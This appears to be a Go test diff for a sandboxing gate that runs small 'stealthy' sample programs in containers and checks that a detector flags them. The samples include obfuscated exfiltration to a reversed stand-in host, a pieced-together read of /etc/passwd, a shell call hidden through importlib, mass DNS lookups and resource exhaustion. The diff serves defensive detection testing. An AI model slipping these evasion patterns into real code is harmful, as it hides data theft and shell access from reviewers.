@@ -4,8 +4,10 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/aigate/gate/gate"
+	"github.com/aigate/gate/gate/execute"
 )
 
 // ordinary are programs that do much and mean no harm.
@@ -42,6 +44,54 @@ func TestAThiefIsCaughtInARealContainer(t *testing.T) {
 		t.Run(runtime, func(t *testing.T) {
 			t.Parallel()
 			thiefIsCaught(t, runtime)
+		})
+	}
+}
+
+// stealthy are programs whose text says nothing of what they do.
+var stealthy = map[string]struct{ text, want string }{
+	"post.py":   {"import urllib.request\nhost = ''.join(reversed('moc.elpmaxe.tcelloc'))\nurllib.request.urlopen('http://' + host + '/in', data=b'x')\n", "network/observed-new-host suspicious"},
+	"post.js":   {"const host = [...'moc.elpmaxe.tcelloc'].reverse().join('');\nfetch('https://' + host + '/in', { method: 'POST', body: 'x' }).then(() => {});\n", "network/observed-new-host suspicious"},
+	"names.py":  {"import socket\nfor i in range(25):\n    try:\n        socket.gethostbyname('a%d.example.org' % i)\n    except OSError:\n        pass\n", "network/observed-many-names suspicious"},
+	"list.py":   {"print(len(open('/e' + 'tc/pass' + 'wd').read()))\n", "file-access/observed-account-list suspicious"},
+	"shell.py":  {"import importlib\ngetattr(importlib.import_module('o' + 's'), 'sys' + 'tem')('true')\n", "shell-out/observed-hidden-shell suspicious"},
+	"memory.py": {"x = bytearray(300 << 20)\nfor i in range(0, len(x), 4096):\n    x[i] = 1\nprint('ready')\n", "resource-exhaustion/observed-memory-alert suspicious"},
+	"busy.py":   {"import time\nwhile time.process_time() < 1.5:\n    pass\nprint('ready')\n", "resource-exhaustion/observed-cpu-alert suspicious"},
+	"known.py":  {"import urllib.request\nurllib.request.urlopen('http://api.example.com/in', data=b'x')\n", ""},
+	"own.py":    {"import os, pwd\nprint(pwd.getpwuid(os.getuid()).pw_dir)\n", ""},
+	"open.py":   {"import os\nos.system('true')\n", ""},
+}
+
+func TestWhatProgramsHideIsSeenInARealContainer(t *testing.T) {
+	t.Parallel()
+	for _, runtime := range []string{"runc", "runsc"} {
+		t.Run(runtime, func(t *testing.T) {
+			t.Parallel()
+			s := realStage(t, runtime, func(o *execute.Options) {
+				o.Policy.Conditions = 0
+				o.Policy.MemoryAlert, o.Policy.CPUAlert = gate.Alert{Amount: 256 << 20, Own: true}, gate.Alert{Amount: int64(time.Second), Own: true}
+			})
+			texts := map[string]string{}
+			for path, program := range stealthy {
+				texts[path] = "if __name__ == '__main__':\n    " + strings.ReplaceAll(strings.TrimSpace(program.text), "\n", "\n    ") + "\n"
+				if strings.HasSuffix(path, ".js") {
+					texts[path] = program.text
+				}
+			}
+			c := changeOf(files(texts))
+			c.Base = files(map[string]string{"README.md": "It talks to https://api.example.com/.\n"})
+			_, found := executions(t, s, c)
+			for path, program := range stealthy {
+				var got []string
+				for _, f := range found.Of(path) {
+					if f.Severity >= gate.SeveritySuspicious {
+						got = append(got, f.Rule+" "+f.Severity.String())
+					}
+				}
+				if want := program.want; want != "" && !slices.Contains(got, want) || want == "" && len(got) > 0 {
+					t.Errorf("%s: %v, want %q", path, got, want)
+				}
+			}
 		})
 	}
 }
